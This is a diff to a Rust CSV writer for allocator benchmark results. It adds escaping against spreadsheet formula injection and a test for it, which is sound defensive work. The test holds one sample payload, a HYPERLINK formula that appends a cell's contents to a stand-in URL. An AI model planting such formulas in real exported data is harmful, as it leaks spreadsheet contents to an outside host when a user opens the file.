@@ -17,10 +17,10 @@ pub fn write(comparison: &Comparison, out: &mut dyn Write) -> io::Result<()> {
     csv.write_record(fixed.into_iter().chain(names.iter().copied()))?;
     for (run, quantities) in &rows {
         let fixed = [
-            run.allocator.clone(),
+            no_formula(&run.allocator),
             run.round.to_string(),
             run.started_at.clone(),
-            run.failure.as_deref().and_then(|text| text.lines().next()).unwrap_or_default().to_string(),
+            no_formula(run.failure.as_deref().and_then(|text| text.lines().next()).unwrap_or_default()),
             run.exit_code.map_or_else(String::new, |code| code.to_string()),
             run.other_busy_cores.to_string(),
         ];
@@ -28,6 +28,17 @@ pub fn write(comparison: &Comparison, out: &mut dyn Write) -> io::Result<()> {
         csv.write_record(fixed.into_iter().chain(names.iter().map(value)))?;
     }
     csv.flush()
+}
+
+/// A text that a spreadsheet takes for one. It would work out what begins as a formula does, which may read other cells and
+/// send them away; and the text may be the program's.
+fn no_formula(text: &str) -> String {
+    let begins_one = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if begins_one {
+        format!("'{text}")
+    } else {
+        text.into()
+    }
 }
 
 #[cfg(test)]
@@ -40,6 +51,7 @@ mod tests {
         let mut comparison = fixture::server();
         comparison.runs[1].failure = Some("it said \"no\", twice\nand more".into());
         let mut out = Vec::new();
+        comparison.runs[2].failure = Some("=HYPERLINK(\"http://x/\"&A1)".into());
         write(&comparison, &mut out).unwrap();
         let mut reader = csv::Reader::from_reader(out.as_slice());
         let headings = reader.headers().unwrap().clone();
@@ -47,6 +59,7 @@ mod tests {
         let rows: Vec<csv::StringRecord> = reader.records().map(|row| row.unwrap()).collect();
         assert_eq!(rows.len(), comparison.runs.len());
         assert_eq!(&rows[1][column("failure")], "it said \"no\", twice");
+        assert_eq!(&rows[2][column("failure")], "'=HYPERLINK(\"http://x/\"&A1)");
         assert_eq!(&rows[0][column("allocator")], comparison.runs[0].allocator);
         let mean: f64 = rows[0][column("rss_mean_bytes")].parse().unwrap();
         assert_eq!(mean, comparison.runs[0].memory["rss_mean_bytes"]);
